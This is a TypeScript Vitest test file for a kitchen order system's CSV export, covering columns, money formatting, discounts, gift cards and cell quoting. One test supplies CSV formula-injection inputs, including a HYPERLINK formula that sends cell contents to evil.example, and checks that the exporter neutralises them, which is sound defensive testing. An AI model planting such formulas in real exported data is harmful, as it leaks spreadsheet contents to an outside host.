import { describe, expect, it } from 'vitest';
import { ORDERS_CSV_COLUMNS, ordersCsv } from '@/domain/kitchen/orders-csv';
import { CODED_ITEMS, CODED_MONEY } from '../../../fixtures/coded-taxed-order';
import { parseCsv } from './read-csv';
import { beef, chapati, storedOrder } from './stored-orders';

const HEADER =
  'order_number,window_start,window_end,order_type,status,customer_name,customer_phone,customer_email,' +
  'delivery_address,notes,product,quantity,unit_price,line_total,order_total,discount,discount_code,tax,' +
  'gift_cards_paid,gift_cards,catering,standing_order,pickup_spot\r\n';

describe('ordersCsv', () => {
  it('starts with the header row', () => {
    expect(`${ORDERS_CSV_COLUMNS.join(',')}\r\n`).toBe(HEADER);
    expect(ordersCsv([])).toBe(HEADER);
  });

  it('writes one row per item, the order repeated on each, money as 2-decimal strings', () => {
    const order = storedOrder(
      12,
      { start: '2026-11-24T20:00:00Z', end: '2026-11-24T20:30:00Z' },
      [beef(20), chapati(10)],
      { tipCents: 570 },
    );
    expect(ordersCsv([order])).toBe(
      HEADER +
        'KBT-12,2026-11-24 14:00,2026-11-24 14:30,pickup,confirmed,Amina Odhiambo,913-555-0142,amina@example.com,,,Beef Samosa,20,1.90,38.00,58.70,0.00,,0.00,0.00,,,,\r\n' +
        'KBT-12,2026-11-24 14:00,2026-11-24 14:30,pickup,confirmed,Amina Odhiambo,913-555-0142,amina@example.com,,,Chapati,10,1.50,15.00,58.70,0.00,,0.00,0.00,,,,\r\n',
    );
  });

  it("adds the code's discount, the code and the tax after the older columns, on each of the order's rows", () => {
    const order = storedOrder(
      15,
      { start: '2026-11-24T20:00:00Z', end: '2026-11-24T20:30:00Z' },
      CODED_ITEMS.map(({ productId, name, quantity, priceCents }) => ({ productId, name, quantity, priceCents })),
      CODED_MONEY,
    );
    const [header, ...rows] = parseCsv(ordersCsv([order]));
    const money = (row: string[] | undefined) =>
      Object.fromEntries(
        ['line_total', 'order_total', 'discount', 'discount_code', 'tax'].map((column) => [
          column,
          row?.[header!.indexOf(column)],
        ]),
      );
    expect(header?.slice(-9, -5)).toEqual(['order_total', 'discount', 'discount_code', 'tax']);
    // $30.00 - $3.00 + $1.68 + $0.26 = $28.94.
    expect(rows.map(money)).toEqual([
      { line_total: '20.00', order_total: '28.94', discount: '3.00', discount_code: 'SAVE10', tax: '1.94' },
      { line_total: '10.00', order_total: '28.94', discount: '3.00', discount_code: 'SAVE10', tax: '1.94' },
    ]);
  });

  it("adds what gift cards paid in all and each card's part, last", () => {
    const order = {
      ...storedOrder(16, { start: '2026-11-24T20:00:00Z', end: '2026-11-24T20:30:00Z' }, [beef(20)]),
      giftCards: [
        { last4: '2BNC', appliedCents: 2500, returnedCents: 0 },
        { last4: 'Q7XM', appliedCents: 500, returnedCents: 0 },
      ],
    };
    const [header, row] = parseCsv(ordersCsv([order]));
    expect(header?.slice(-5, -3)).toEqual(['gift_cards_paid', 'gift_cards']);
    expect(row?.slice(-5, -3)).toEqual(['30.00', '2BNC 25.00; Q7XM 5.00']);
  });

  it("names a catering event's request, on each of its rows, and leaves the cell empty for any other order", () => {
    const window = { start: '2026-11-24T20:00:00Z', end: '2026-11-24T20:30:00Z' };
    const event = storedOrder(17, window, [beef(200), chapati(100)], {
      catering: { reference: 'CAT-3', paidCents: 26_400 },
    });
    const [header, ...rows] = parseCsv(ordersCsv([event, storedOrder(18, window, [beef(20)])]));
    expect(header?.at(-3)).toBe('catering');
    expect(rows.map((row) => [row[0], row.at(-3)])).toEqual([
      ['KBT-17', 'CAT-3'],
      ['KBT-17', 'CAT-3'],
      ['KBT-18', ''],
    ]);
  });

  it("says 'yes' last on each row of an order a standing order placed, and leaves the cell empty for any other", () => {
    const window = { start: '2026-11-24T20:00:00Z', end: '2026-11-24T20:30:00Z' };
    const placed = storedOrder(21, window, [beef(20), chapati(10)], { standing: { failure: null } });
    const [header, ...rows] = parseCsv(ordersCsv([placed, storedOrder(22, window, [beef(20)])]));
    expect(header?.at(-2)).toBe('standing_order');
    expect(rows.map((row) => [row[0], row.at(-2)])).toEqual([
      ['KBT-21', 'yes'],
      ['KBT-21', 'yes'],
      ['KBT-22', ''],
    ]);
  });

  it("names a pickup's spot last on each of its rows, and leaves the cell empty for a delivery", () => {
    const window = { start: '2026-11-24T20:00:00Z', end: '2026-11-24T20:30:00Z' };
    const church = { id: 2, name: 'Grace Church car park', address: '11720 Nall Ave', notes: '', private: false };
    const pickup = storedOrder(23, window, [beef(20)], { pickupSpot: church });
    const delivery = storedOrder(24, window, [beef(10)], { orderType: 'delivery' });
    const [header, ...rows] = parseCsv(ordersCsv([pickup, delivery]));
    expect(header?.at(-1)).toBe('pickup_spot');
    expect(rows.map((row) => [row[0], row.at(-1)])).toEqual([
      ['KBT-23', 'Grace Church car park'],
      ['KBT-24', ''],
    ]);
  });

  it('quotes notes with a comma, a quote and a line break, and writes the delivery address', () => {
    const order = storedOrder(7, { start: '2026-03-08T16:00:00Z', end: '2026-03-08T16:30:00Z' }, [beef(20)], {
      orderType: 'delivery',
      status: 'cancelled',
      customerEmail: null,
      notes: 'Ring twice, then say "jambo"\nGate code 42',
      deliveryAddress: { fullAddress: '123 Main St, Overland Park, KS 66212', zone: 'Local 0-10', feeCents: 350 },
      deliveryFeeCents: 350,
    });
    expect(ordersCsv([order])).toBe(
      HEADER +
        'KBT-7,2026-03-08 11:00,2026-03-08 11:30,delivery,cancelled,Amina Odhiambo,913-555-0142,,' +
        '"123 Main St, Overland Park, KS 66212","Ring twice, then say ""jambo""\nGate code 42",Beef Samosa,20,1.90,38.00,41.50,0.00,,0.00,0.00,,,,\r\n',
    );
  });

  it('guards every typed cell against formulas, before quoting it', () => {
    const order = storedOrder(3, { start: '2026-03-08T16:00:00Z', end: '2026-03-08T16:30:00Z' }, [
      { ...beef(1), name: '@Beef' },
    ]);
    const hostile = {
      ...order,
      customerName: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      customerPhone: '+1 913 555 0142',
      customerEmail: '-x@example.com',
      deliveryAddress: '=1+1, Overland Park',
      notes: '\t=cmd',
    };
    const [, row] = parseCsv(ordersCsv([hostile]));
    expect(row?.slice(5, 11)).toEqual([
      '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
      "'+1 913 555 0142",
      "'-x@example.com",
      "'=1+1, Overland Park",
      "'\t=cmd",
      "'@Beef",
    ]);
  });

  it('leaves the window cells empty for an order from before windows, and reads an address kept as text', () => {
    const order = storedOrder(4, null, [beef(2)], { deliveryAddress: '9 Elm St', orderType: 'delivery' });
    const [, row] = parseCsv(ordersCsv([order]));
    expect(row?.slice(0, 3)).toEqual(['KBT-4', '', '']);
    expect(row?.[8]).toBe('9 Elm St');
  });
});
